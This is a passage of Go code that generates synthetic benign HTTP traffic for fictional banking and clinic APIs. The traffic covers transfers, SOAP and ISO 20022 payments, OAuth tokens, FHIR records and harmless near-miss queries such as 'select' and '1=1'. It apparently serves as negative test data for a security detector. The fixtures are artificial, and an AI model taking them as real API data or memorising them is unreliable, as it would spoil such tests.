			ok(h2Req{method: "GET", url: bank + "/api/v1/accounts", hdr: g.auth(http.Header{})}, 200, body)
		},
		// 2 transaction search with near-miss text in the query
		func(i int) {
			q := nm(i)
			body := h2J(h2M{"data": []h2M{{"id": fmt.Sprintf("tx_%d", 880000+i), "amount": "-" + amt(i), "memo": q, "bookedAt": day(i)}}, "meta": h2M{"limit": 50, "page": 1 + i%4}})
			ok(h2Req{method: "GET", url: bank + "/api/v1/transactions/search?q=" + h2Q(q) + "&limit=50&page=" + fmt.Sprint(1+i%4), hdr: g.auth(http.Header{})}, 200, body)
		},
		// 3 transfer with memo and reference
		func(i int) {
			req := h2M{"fromAccount": acct(i), "toIban": iban(i + 1), "amount": amt(i), "currency": "EUR", "memo": nm(i + 3), "endToEndId": fmt.Sprintf("E2E-%s", orderID(i)), "scheduledFor": day(i)}
			resp := h2M{"id": fmt.Sprintf("tr_%s", g.str(h2Alnum, 14)), "status": "pending", "amount": amt(i), "memo": nm(i + 3)}
			ok(h2Req{method: "POST", url: bank + "/api/v1/transfers", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(resp))
		},
		// 4 new payee by form post
		func(i int) {
			hdr := g.auth(http.Header{})
			hdr.Set("Content-Type", "application/x-www-form-urlencoded")
			body := "payee_name=" + h2Q(name(i)) + "&iban=" + iban(i) + "&nickname=" + h2Q(nm(i+5)) + "&save=true"
			ok(h2Req{method: "POST", url: bank + "/v2/payees", hdr: hdr, body: body}, 201, h2J(h2M{"id": fmt.Sprintf("PY-%d", 7000+i), "name": name(i), "ibanMasked": iban(i)[:4] + " **** " + iban(i)[len(iban(i))-4:]}))
		},
		// 5 cards with last-4 and masked numbers
		func(i int) {
			l4 := fmt.Sprintf("%04d", (i*4242)%10000)
			body := h2J(h2M{"cards": []h2M{{"id": fmt.Sprintf("card_%d", i), "display": "**** " + l4, "last_four": l4, "exp": "09/29", "status": []string{"active", "frozen"}[i%2]}, {"id": "card_v" + fmt.Sprint(i), "display": "•••• •••• •••• 4242", "virtual": true}}})
			ok(h2Req{method: "GET", url: bank + "/v2/cards?include=virtual", hdr: g.auth(http.Header{})}, 200, body)
		},
		// 6 webhook registration to a public host
		func(i int) {
			u := h2PublicURLs[i%len(h2PublicURLs)]
			req := h2M{"url": u, "events": []string{"transfer.completed", "card.frozen"}, "secretHint": "rotate monthly", "description": h2Markup[i%len(h2Markup)]}
			ok(h2Req{method: "POST", url: bank + "/api/v1/webhooks", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"id": fmt.Sprintf("wh_%d", 300+i), "url": u, "active": true}))
		},
		// 7 SOAP balance enquiry
		func(i int) {
			hdr := g.auth(http.Header{})
			hdr.Set("Content-Type", "text/xml; charset=utf-8")
			hdr.Set("SOAPAction", "\"urn:bank:GetBalance\"")
			req := `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:b="urn:bank"><soapenv:Header><b:Channel>branch-portal</b:Channel></soapenv:Header><soapenv:Body><b:GetBalance><b:AccountId>` + acct(i) + `</b:AccountId><b:AsOf>` + day(i) + `</b:AsOf><b:Note>` + h2XMLEsc(nm(i)) + `</b:Note></b:GetBalance></soapenv:Body></soapenv:Envelope>`
			resp := `<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:b="urn:bank"><soapenv:Body><b:GetBalanceResponse><b:Balance currency="EUR">` + amt(i) + `</b:Balance></b:GetBalanceResponse></soapenv:Body></soapenv:Envelope>`
			g.add(nil, h2Req{method: "POST", url: bank + "/soap/v1/accounts", hdr: hdr, body: req}, 200, h2Header("Content-Type", "text/xml; charset=utf-8"), resp)
		},
		// 8 ISO 20022 payment initiation (pain.001) as XML
		func(i int) {
			hdr := g.auth(http.Header{})
			hdr.Set("Content-Type", "application/xml")
			req := `<?xml version="1.0" encoding="UTF-8"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.09"><CstmrCdtTrfInitn><GrpHdr><MsgId>MSG-` + fmt.Sprint(50000+i) + `</MsgId><CreDtTm>2026-06-01T07:45:00</CreDtTm><NbOfTxs>1</NbOfTxs></GrpHdr><PmtInf><PmtMtd>TRF</PmtMtd><CdtTrfTxInf><Amt><InstdAmt Ccy="EUR">` + amt(i) + `</InstdAmt></Amt><Cdtr><Nm>` + h2XMLEsc(name(i)) + `</Nm></Cdtr><CdtrAcct><Id><IBAN>` + iban(i) + `</IBAN></Id></CdtrAcct><RmtInf><Ustrd>` + h2XMLEsc(nm(i+1)) + `</Ustrd></RmtInf></CdtTrfTxInf></PmtInf></CstmrCdtTrfInitn></Document>`
			ok(h2Req{method: "POST", url: bank + "/api/v1/payments/iso20022", hdr: hdr, body: req}, 202, h2J(h2M{"batchId": fmt.Sprintf("B-%d", 90000+i), "status": "accepted"}))
		},
		// 9 statement download by file name
		func(i int) {
			f := h2Files[i%len(h2Files)]
			g.add(nil, h2Req{method: "GET", url: bank + "/v2/statements/download?file=" + h2Q(f), hdr: g.auth(http.Header{})}, 200,
				h2Header("Content-Type", "application/pdf", "Content-Disposition", "attachment; filename=\""+f[strings.LastIndex(f, "/")+1:]+"\""), "%PDF-1.7\n%statement placeholder\n")
		},
		// 10 FX quote
		func(i int) {
			pairs := [][2]string{{"EUR", "USD"}, {"GBP", "EUR"}, {"EUR", "JPY"}, {"USD", "BRL"}}
			p := pairs[i%len(pairs)]
			ok(h2Req{method: "GET", url: bank + "/v2/fx/quotes?from=" + p[0] + "&to=" + p[1] + "&amount=" + amt(i), hdr: g.auth(http.Header{})}, 200,
				h2J(h2M{"rate": "1.0842", "from": p[0], "to": p[1], "validUntil": "2026-06-01T08:00:00Z", "quoteId": g.str(h2Alnum, 20)}))
		},
		// 11 OAuth token issued (the response carries a fresh access token)
		func(i int) {
			hdr := http.Header{}
			hdr.Set("Content-Type", "application/x-www-form-urlencoded")
			hdr.Set("Authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("mobile-ios:public")))
			body := "grant_type=refresh_token&refresh_token=" + g.str(h2B64URL, 86)
			ok(h2Req{method: "POST", url: bank + "/api/v1/oauth/token", hdr: hdr, body: body}, 200,
				h2J(h2M{"access_token": g.validToken(), "token_type": "Bearer", "expires_in": 3600, "refresh_token": g.str(h2B64URL, 86), "scope": "accounts:read transfers:write"}))
		},
		// 12 profile with trusted CORS origin
		func(i int) {
			hdr := cors(g.auth(http.Header{}), h2Bank)
			hdr.Set("Referer", "https://app.bank.example/settings/profile")
			g.add(nil, h2Req{method: "GET", url: bank + "/api/v1/me", hdr: hdr}, 200, corsResp(h2Bank),
				h2J(h2M{"id": fmt.Sprintf("usr_%06d", 1000+i), "displayName": name(i), "email": h2Emails[i%len(h2Emails)], "phone": fmt.Sprintf("+49 30 %07d", 1000000+i*37), "kycLevel": 2}))
		},
		// 13 ordinary 404
		func(i int) {
			ok(h2Req{method: "GET", url: bank + "/api/v1/accounts/" + acct(i+99), hdr: g.auth(http.Header{})}, 404, h2J(h2M{"error": "not_found", "message": "Account " + acct(i+99) + " not found"}))
		},
		// 14 validation errors
		func(i int) {
			req := h2M{"email": "ana.lima@", "phone": "+351 912 345 678", "displayName": name(i)}
			ok(h2Req{method: "PATCH", url: bank + "/api/v1/me", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 422,
				h2J(h2M{"errors": []h2M{{"field": "email", "code": "invalid_email", "message": "invalid email"}, {"field": "phone", "message": "must be E.164"}}}))
		},
		// 15 expired token refused with 401 (the API working)
		func(i int) {
			c := h2M{"sub": fmt.Sprintf("usr_%06d", 2000+i), "iat": h2Base.Add(-26 * time.Hour).Unix(), "exp": h2Base.Add(-25 * time.Hour).Unix(), "iss": "https://auth.bank.example"}
			tok := h2HS256(h2M{"alg": "HS256", "typ": "JWT"}, c, "h2-benign-hmac-secret-not-real")
			hdr := h2Header("Authorization", "Bearer "+tok)
			g.add(nil, h2Req{method: "GET", url: bank + "/api/v1/accounts", hdr: hdr}, 401,
				h2Header("WWW-Authenticate", `Bearer error="invalid_token", error_description="The access token expired"`), h2J(h2M{"error": "invalid_token", "message": "token expired"}))
		},
		// 16 support ticket with harmless HTML
		func(i int) {
			req := h2M{"subject": nm(i + 2), "bodyHtml": h2Markup[i%len(h2Markup)], "category": "cards", "attachments": []string{h2Files[i%len(h2Files)]}}
			ok(h2Req{method: "POST", url: bank + "/api/v1/support/tickets", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"ticketId": fmt.Sprintf("T-%d", 8800+i), "status": "open"}))
		},
		// 17 developer community post (code snippets, Markdown)
		func(i int) {
			req := h2M{"title": "Question about the v2 API", "body_markdown": h2Code[i%len(h2Code)], "tags": []string{"api", "pagination", "webhooks"}[i%3 : i%3+1]}
			ok(h2Req{method: "POST", url: bank + "/api/v1/community/posts", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"id": 30000 + i, "status": "published"}))
		},
		// 18 payee search with ordinary pagination
		func(i int) {
			q := []string{"union station", "O'Brien", "select", "drop", "and sons", "1=1"}[i%6]
			ok(h2Req{method: "GET", url: bank + "/v2/payees?search=" + h2Q(q) + "&per_page=" + []string{"25", "50", "100"}[i%3], hdr: g.auth(http.Header{})}, 200, h2J(h2M{"data": []h2M{{"id": "PY-1", "name": name(i)}}, "per_page": 100}))
		},
		// 19 CMS email templates with placeholders
		func(i int) {
			req := h2M{"key": fmt.Sprintf("statement_ready_%d", i%7), "subject": "Your statement is ready", "body": h2Templates[i%len(h2Templates)], "locale": "en-GB"}
			ok(h2Req{method: "PUT", url: bank + "/api/v1/cms/email-templates/" + fmt.Sprintf("statement_ready_%d", i%7), hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 200, h2J(h2M{"updated": true, "version": 3 + i%9}))
		},
		// 20 profile update with a public avatar URL
		func(i int) {
			req := h2M{"displayName": name(i), "email": h2Emails[i%len(h2Emails)], "avatarUrl": h2PublicURLs[(i+4)%len(h2PublicURLs)], "address": h2M{"line1": "12 Union Station Rd", "city": h2Cities[i%len(h2Cities)]}}
			ok(h2Req{method: "PUT", url: bank + "/api/v1/me/profile", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 200, h2J(h2M{"ok": true}))
		},
		// 21 CSV export
		func(i int) {
			csv := "date,amount,memo\n" + day(i) + ",-" + amt(i) + ",\"" + strings.ReplaceAll(nm(i), "\"", "\"\"") + "\"\n"
			g.add(nil, h2Req{method: "GET", url: bank + "/api/v1/transactions/export?format=csv&from=2026-01-01&to=2026-03-31", hdr: g.auth(http.Header{})}, 200, h2Header("Content-Type", "text/csv"), csv)
		},
		// 22 GraphQL with ordinary page sizes
		func(i int) {
			req := h2M{"operationName": "Tx", "query": "query Tx($n: Int!, $after: String) { transactions(first: $n, after: $after) { edges { node { id amount memo } } pageInfo { endCursor hasNextPage } } }", "variables": h2M{"n": []int{20, 50, 100}[i%3], "after": base64.StdEncoding.EncodeToString([]byte(fmt.Sprintf("cursor:%d", i)))}}
			ok(h2Req{method: "POST", url: bank + "/graphql", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 200, h2J(h2M{"data": h2M{"transactions": h2M{"edges": []h2M{{"node": h2M{"id": "tx_1", "amount": amt(i), "memo": nm(i)}}}, "pageInfo": h2M{"hasNextPage": true}}}}))
		},
		// 23 device/login history with public IPs and a forwarded chain
		func(i int) {
			hdr := g.auth(http.Header{})
			hdr.Set("X-Forwarded-For", h2PublicIPs[i%len(h2PublicIPs)]+", 10.12.0.4")
			ok(h2Req{method: "GET", url: bank + "/api/v1/security/sessions?ip=" + h2Q(h2PublicIPs[(i+1)%len(h2PublicIPs)]), hdr: hdr}, 200,
				h2J(h2M{"sessions": []h2M{{"ip": h2PublicIPs[i%len(h2PublicIPs)], "city": h2Cities[i%len(h2Cities)], "device": "iPhone 15", "lastSeen": day(i)}}}))
		},
		// 24 loan calculator with math expressions
		func(i int) {
			req := h2M{"principal": 250000 + i*1000, "annual_rate": 4.5, "term_months": 360, "formula": "P*r*(1+r)^n/((1+r)^n-1)", "note": "r = 0.045/12; n = 360"}
			ok(h2Req{method: "POST", url: bank + "/v2/calculators/loan", hdr: h2JSONHdr(http.Header{}), body: h2J(req)}, 200, h2J(h2M{"monthly_payment": "1266.71", "total_interest": "206016.78"}))
		},
		// 25 clinic appointment list with ordinary pagination
		func(i int) {
			ok(h2Req{method: "GET", url: clin + "/api/v1/appointments?from=" + day(i) + "&to=" + day(i+7) + "&practitioner_id=PR-" + fmt.Sprint(100+i%40) + "&limit=" + []string{"20", "50", "100", "200"}[i%4], hdr: g.auth(http.Header{})}, 200,
				h2J(h2M{"data": []h2M{{"id": fmt.Sprintf("apt_%d", 7000+i), "start": day(i) + "T09:30:00Z", "status": "booked", "reason": nm(i + 9)}}, "next_cursor": g.str(h2B64URL, 40)}))
		},
		// 26 book an appointment with notes
		func(i int) {
			req := h2M{"patient_id": fmt.Sprintf("PT-%05d", 10000+i), "slot_id": fmt.Sprintf("slot_%d", 55000+i), "reason": nm(i), "notes": h2Markup[(i+3)%len(h2Markup)], "contact": h2M{"email": h2Emails[i%len(h2Emails)], "phone": "+353 1 555 01" + fmt.Sprintf("%02d", i%100)}}
			ok(h2Req{method: "POST", url: clin + "/api/v1/appointments", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"id": fmt.Sprintf("apt_%d", 7000+i), "status": "booked"}))
		},
		// 27 practitioner search with apostrophes
		func(i int) {
			q := []string{"Dr. O'Neil", "cardiology", "O'Brien", "ear, nose & throat", "pediatrics (under 12)", "x-ray"}[i%6]
			ok(h2Req{method: "GET", url: clin + "/v2/practitioners/search?q=" + h2Q20(q) + "&specialty=any&page_size=25", hdr: g.auth(http.Header{})}, 200, h2J(h2M{"results": []h2M{{"id": "PR-12", "name": "Dr. Ruth Okafor", "languages": []string{"en", "yo"}}}}))
		},
		// 28 secure message with Markdown
		func(i int) {
			req := h2M{"threadId": fmt.Sprintf("th_%d", 400+i), "body": h2Markup[(i+7)%len(h2Markup)] + "\n\n" + nm(i+1), "attachments": []h2M{{"fileName": h2Files[(i+2)%len(h2Files)], "size": 48211}}}
			ok(h2Req{method: "POST", url: clin + "/v2/messages", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"id": fmt.Sprintf("msg_%d", 9000+i)}))
		},
		// 29 patient update
		func(i int) {
			req := h2M{"phone": fmt.Sprintf("+1 (415) 555-%04d", i%10000), "email": h2Emails[(i+1)%len(h2Emails)], "address": h2M{"line1": fmt.Sprintf("%d Union Station Rd", 1+i%90), "city": h2Cities[i%len(h2Cities)], "postal_code": "D02 X285"}, "emergency_contact": h2M{"name": name(i + 1), "relation": "sister"}}
			ok(h2Req{method: "PATCH", url: clin + "/api/v1/patients/" + fmt.Sprintf("PT-%05d", 10000+i), hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 200, h2J(h2M{"updated": true}))
		},
		// 30 document by path
		func(i int) {
			f := h2Files[(i+3)%len(h2Files)]
			ok(h2Req{method: "GET", url: clin + "/api/v1/documents/meta?path=" + h2Q(f), hdr: g.auth(http.Header{})}, 200, h2J(h2M{"path": f, "size": 120034, "uploaded_at": day(i)}))
		},
		// 31 intake form with medications and allergies
		func(i int) {
			req := h2M{"medications": []h2M{{"name": "Metformin", "dose": "500 mg x 2/day"}, {"name": "Lisinopril", "dose": "10mg; max 20mg"}}, "allergies": []string{"penicillin", "nuts & seeds"}, "symptoms": "Temp 38.5°C; O2 sat 97%; cough < 3 weeks", "consent": true}
			ok(h2Req{method: "POST", url: clin + "/api/v1/intake-forms", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"form_id": fmt.Sprintf("if_%d", i)}))
		},
		// 32 integration callback URL to a public partner
		func(i int) {
			req := h2M{"callbackUrl": h2PublicURLs[(i+6)%len(h2PublicURLs)], "events": []string{"appointment.booked", "appointment.cancelled"}}
			ok(h2Req{method: "POST", url: clin + "/v2/integrations/callbacks", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"id": fmt.Sprintf("cb_%d", i)}))
		},
		// 33 clinics near a location
		func(i int) {
			ok(h2Req{method: "GET", url: clin + "/v2/clinics?near=52.5200,13.4050&radius=5km&per_page=" + []string{"10", "25", "100"}[i%3], hdr: http.Header{}}, 200, h2J(h2M{"clinics": []h2M{{"id": "CL-3", "name": "Union Square Family Practice", "website": "https://www.unionsquare-clinic.example"}}}))
		},
		// 34 notification templates with placeholders
		func(i int) {
			req := h2M{"channel": []string{"sms", "email"}[i%2], "template": h2Templates[(i+2)%len(h2Templates)], "name": "reminder_24h"}
			ok(h2Req{method: "PUT", url: clin + "/api/v1/notifications/templates/reminder_24h", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 200, h2J(h2M{"saved": true}))
		},
		// 35 free slots
		func(i int) {
			ok(h2Req{method: "GET", url: clin + "/api/v1/slots?date=" + day(i) + "&duration=30&practitionerId=PR-" + fmt.Sprint(10+i%30), hdr: g.auth(http.Header{})}, 200,
				h2J(h2M{"slots": []string{day(i) + "T09:00:00Z", day(i) + "T09:30:00Z", day(i) + "T14:00:00Z"}}))
		},
		// 36 login (password in the request, token in the response)
		func(i int) {
			req := h2M{"email": h2Emails[i%len(h2Emails)], "password": "correct horse battery " + fmt.Sprint(i%10)}
			ok(h2Req{method: "POST", url: clin + "/api/v1/auth/login", hdr: h2JSONHdr(http.Header{}), body: h2J(req)}, 200,
				h2J(h2M{"access_token": g.validToken(), "expires_in": 900, "token_type": "Bearer"}))
		},
		// 37 slot conflicts and other ordinary errors
		func(i int) {
			errs := []h2M{{"error": "slot_taken", "message": "This slot was just booked by someone else."}, {"error": "not_found", "message": "Appointment not found"}, {"error": "too_early", "message": "Cancellations need 24h notice"}}
			st := []int{409, 404, 422}[i%3]
			ok(h2Req{method: "DELETE", url: clin + "/v2/appointments/apt_" + fmt.Sprint(7000+i), hdr: g.auth(http.Header{})}, st, h2J(errs[i%3]))
		},
		// 38 FHIR Patient resource
		func(i int) {
			req := h2M{"resourceType": "Patient", "name": []h2M{{"family": "O'Brien", "given": []string{"Siobhán"}}}, "telecom": []h2M{{"system": "phone", "value": "+353 1 555 0199"}}, "birthDate": "1988-04-12"}
			hdr := g.auth(http.Header{})
			hdr.Set("Content-Type", "application/fhir+json")
			g.add(nil, h2Req{method: "POST", url: clin + "/v2/fhir/Patient", hdr: hdr, body: h2J(req)}, 201, h2Header("Content-Type", "application/fhir+json", "Location", "https://api.clinic.example/v2/fhir/Patient/"+fmt.Sprint(500+i)), h2J(h2M{"resourceType": "Patient", "id": fmt.Sprint(500 + i)}))
		},
		// 39 invoices with masked cards and numeric order ids (failing Luhn)
		func(i int) {
			body := h2J(h2M{"invoices": []h2M{{"number": "INV-2026-" + fmt.Sprintf("%06d", i), "orderId": orderID(i), "paidWith": "Visa •••• " + fmt.Sprintf("%04d", (i*31)%10000), "amount": amt(i)}}})
			ok(h2Req{method: "GET", url: clin + "/api/v1/billing/invoices?status=paid&limit=50", hdr: g.auth(http.Header{})}, 200, body)
		},
		// 40 forum / help-desk posts with code snippets
		func(i int) {
			req := h2M{"question": h2Code[(i+4)%len(h2Code)], "product": "clinic-api"}
			ok(h2Req{method: "POST", url: clin + "/api/v1/developer/questions", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2J(req)}, 201, h2J(h2M{"id": i}))
		},
		// 41 CORS preflight from the trusted portal
		func(i int) {
			hdr := h2Header("Origin", "https://app.clinic.example", "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "authorization,content-type")
			rh := h2Header("Access-Control-Allow-Origin", "https://app.clinic.example", "Access-Control-Allow-Credentials", "true", "Access-Control-Allow-Methods", "GET,POST,PATCH,DELETE", "Access-Control-Max-Age", "600", "Vary", "Origin")
			g.add(nil, h2Req{method: "OPTIONS", url: clin + "/api/v1/appointments", hdr: hdr}, 204, rh, "")
		},
		// 42 transactions page by opaque cursor
		func(i int) {
			cur := base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"after":"tx_%d","ts":"%s"}`, 880000+i, day(i))))
			ok(h2Req{method: "GET", url: bank + "/api/v1/accounts/" + acct(i) + "/transactions?cursor=" + cur + "&limit=100", hdr: g.auth(http.Header{})}, 200, h2J(h2M{"data": []h2M{}, "next": cur}))
		},
		// 43 health check
		func(i int) {
			host := []string{bank, clin}[i%2]
			ok(h2Req{method: "GET", url: host + "/healthz", hdr: http.Header{}}, 200, h2J(h2M{"status": "ok", "version": "5.12." + fmt.Sprint(i%9), "commit": g.str(h2Hex, 7)}))
		},
		// 44 KYC document upload (multipart) with a file name containing dots
		func(i int) {
			b := "----WebKitFormBoundaryQ2x9" + fmt.Sprint(i%10)
			hdr := g.auth(http.Header{})
			hdr.Set("Content-Type", "multipart/form-data; boundary="+b)
			body := "--" + b + "\r\nContent-Disposition: form-data; name=\"docType\"\r\n\r\npassport\r\n--" + b + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"passport.scan.v2.jpg\"\r\nContent-Type: image/jpeg\r\n\r\nJFIF-placeholder\r\n--" + b + "--\r\n"
			ok(h2Req{method: "POST", url: bank + "/api/v1/kyc/documents", hdr: hdr, body: body}, 201, h2J(h2M{"documentId": fmt.Sprintf("doc_%d", i), "status": "processing"}))
		},
		// 45 clinic free-text search
		func(i int) {
			q := []string{"select a date", "drop-off for lab samples", "x-ray & MRI", "COVID-19 vs. flu", "<3 weeks cough", "knee/ankle", "where to park?", "hours; weekends"}[i%8]
			ok(h2Req{method: "GET", url: clin + "/api/v1/search?q=" + h2Q(q) + "&type=faq", hdr: http.Header{}}, 200, h2J(h2M{"hits": []h2M{{"title": "Parking and access", "url": "https://www.clinic.example/faq/parking"}}}))
		},
		// 46 referral with a public referrer page and API version header
		func(i int) {
			hdr := h2JSONHdr(g.auth(http.Header{}))
			hdr.Set("Referer", "https://portal.clinic.example/referrals/new?step=2")
			hdr.Set("X-Api-Version", []string{"2026-05-01", "v2", "2.3"}[i%3])
			req := h2M{"referral": h2M{"to": "Dr. Liam D'Souza", "reason": nm(i + 4), "urgency": "routine", "documents": []string{h2Files[i%len(h2Files)]}}}
			ok(h2Req{method: "POST", url: clin + "/api/v1/referrals", hdr: hdr, body: h2J(req)}, 201, h2J(h2M{"id": fmt.Sprintf("ref_%d", i)}))
		},
		// 47 standing order with escaped-HTML JSON (as encoding/json writes it)
		func(i int) {
			req := h2M{"fromAccount": acct(i), "toIban": iban(i), "amount": amt(i), "frequency": "monthly", "memo": h2Markup[(i+1)%len(h2Markup)]}
			ok(h2Req{method: "POST", url: bank + "/v2/standing-orders", hdr: h2JSONHdr(g.auth(http.Header{})), body: h2JEsc(req)}, 201, h2J(h2M{"id": fmt.Sprintf("so_%d", i), "nextRun": day(i + 30)}))
		},
		// 48 audit log with ordinary pagination and public IPs
		func(i int) {
			ok(h2Req{method: "GET", url: bank + "/v2/audit-log?pageSize=" + []string{"50", "100", "250", "500", "1000"}[i%5] + "&actor=me", hdr: g.auth(http.Header{})}, 200,
				h2J(h2M{"entries": []h2M{{"action": "login", "ip": h2PublicIPs[i%len(h2PublicIPs)], "ua": h2BenignUAs[i%len(h2BenignUAs)]}}}))
		},
	}
	for i := 0; i < n; i++ {
		templates[i%len(templates)](i/len(templates)*7 + i%len(templates))
	}
}
